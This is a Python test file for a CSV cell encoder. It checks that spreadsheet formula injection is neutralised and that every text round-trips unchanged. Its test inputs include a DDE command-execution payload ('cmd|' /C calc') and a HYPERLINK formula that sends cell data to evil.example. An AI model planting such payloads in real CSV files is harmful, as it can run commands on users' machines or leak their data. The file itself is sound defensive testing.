"""Cells of a CSV file: nothing is calculated by a spreadsheet, and every text comes back."""

import csv
import io
import json
import random

import pytest

from core.annotation.cells import from_cell, json_cell, json_line, to_cell

LEADS = "=+-@\t\r\n＝＋－＠"
NASTY = (
    "", "'", "''", "plain", "=1+1", "'=1+1", "''=1", " =1", "+1", "-1", "@SUM(A1)", "\t=1",
    "\r=1", "\n=1", "a\n=1", "a\r\n-1", "a,=1", 'a";=cmd|\' /C calc\'!A0', "a;=1", "x|@y", "＝1",
    "\\", "\\n", "\\\\n", "C:\\new", "\x00", "\x1f", "\x7f", "\x85", "\u2028", "\ud800",
    "a\udfffb", "日本語", "🙂", "e\u0301", "\u202eabc", "\ufeff", '"', '""', ",", ";", "-", "=",
    "1e5", "=" * 50, "a-b=c+d@e", '=HYPERLINK("http://evil.example?"&A1,"x")', "it's", "don't -x",
    "\\u0041", "\\x",
)  # fmt: skip


@pytest.mark.parametrize("text", NASTY, ids=ascii)
def test_every_text_comes_back_and_calculates_nothing(text: str) -> None:
    cell = to_cell(text)
    assert from_cell(cell) == text
    assert cell[:1] not in set(LEADS)
    cell.encode()
    assert cell.isprintable() or set(cell) & {"\u202e", "\ufeff"}


def test_random_texts_come_back() -> None:
    rng = random.Random(3)
    signs = [*"=+-@'\"\\,;| nrtu0a", "\n", "\r", "\t", "\x00", "\ud834", "é", "＝"]
    for _ in range(20_000):
        text = "".join(rng.choices(signs, k=rng.randrange(12)))
        cell = to_cell(text)
        assert from_cell(cell) == text
        assert json.loads(json_cell([text])) == [text]
        assert json.loads(json_line({text: 1})) == {text: 1}


def test_no_program_that_cuts_at_another_sign_finds_a_formula() -> None:
    """A spreadsheet set to another separator cuts cells where no cell ends."""
    out = io.StringIO()
    csv.writer(out).writerow([*map(to_cell, NASTY), json_cell({text: [text] for text in NASTY})])
    for separator in ",;|\t":
        for cell in next(csv.reader([out.getvalue()], delimiter=separator)):
            assert cell.lstrip(" '\"")[:1] not in set(LEADS) or cell.lstrip(' "').startswith("'")


def test_json_stays_json_on_one_line() -> None:
    value = {"=1": ["-2", {"a\n@b": -1.5}], "\ud800": "\u2028", "n": None}
    for text in (json_cell(value), json_line(value)):
        assert json.loads(text) == value
        assert len(text.splitlines()) == 1
        text.encode()
    assert "=" not in json_cell(value)
    with pytest.raises(ValueError, match="JSON"):
        json_cell({"x": float("nan")})
